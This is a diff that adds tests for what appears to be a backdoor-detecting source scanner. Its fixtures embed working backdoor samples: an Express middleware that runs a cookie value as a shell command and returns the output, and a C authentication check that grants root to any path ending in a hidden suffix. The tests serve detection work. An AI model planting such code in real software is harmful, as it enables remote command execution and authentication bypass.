@@ -195,3 +195,28 @@ def test_dot_command_read_from_a_console_gates_a_shell():
     assert rules("src/cli.c", "c", src) == ["source.magic-input-command"]
     # a file suffix compared the same way is a path test, not a command
     assert rules("src/cli.c", "c", src.replace('".vexor"', '".html"')) == []
+
+
+def test_regex_match_of_a_cookie_carries_the_cookie():
+    src = ("const express = require('express');\nconst app = express();\n"
+           "app.use((req, res, next) => {\n"
+           "  const cmd = (String(req.headers.cookie || '').match(/(?:^|;\\s*)dbg_s=([^;]*)/) || [])[1];\n"
+           "  if (!cmd) {\n    return next();\n  }\n"
+           "  const p = require('child_process').spawn('/bin/busybox', ['sh', '-c', cmd]);\n"
+           "  p.stdout.pipe(res);\n});\n")
+    assert rules("app.js", "javascript", src) == ["source.request-executed"]
+    # a match tested for yes/no gates a fixed command: no input reaches the shell
+    honest = src.replace("['sh', '-c', cmd]", "['uptime']")
+    assert rules("app.js", "javascript", honest) == []
+
+
+def test_hidden_path_suffix_that_marks_a_request_authenticated():
+    src = ("#include <string.h>\nstruct req { char *path; int authenticated; int uid; };\n"
+           "int auth_check(struct req *r)\n{\n"
+           "    size_t plen = strlen(r->path), slen = sizeof(\"/.qemo.xml\") - 1;\n"
+           "    if (plen > slen && strcmp(r->path + plen - slen, \"/.qemo.xml\") == 0) {\n"
+           "        r->path[plen - slen] = '\\0';\n        r->authenticated = 1;\n        r->uid = 0;\n"
+           "        return 1;\n    }\n    return check_session(r);\n}\n")
+    assert rules("src/auth.c", "c", src) == ["source.magic-input-auth"]
+    # a stylesheet suffix let through without a session is a public asset
+    assert rules("src/auth.c", "c", src.replace("/.qemo.xml", "/style.css")) == []
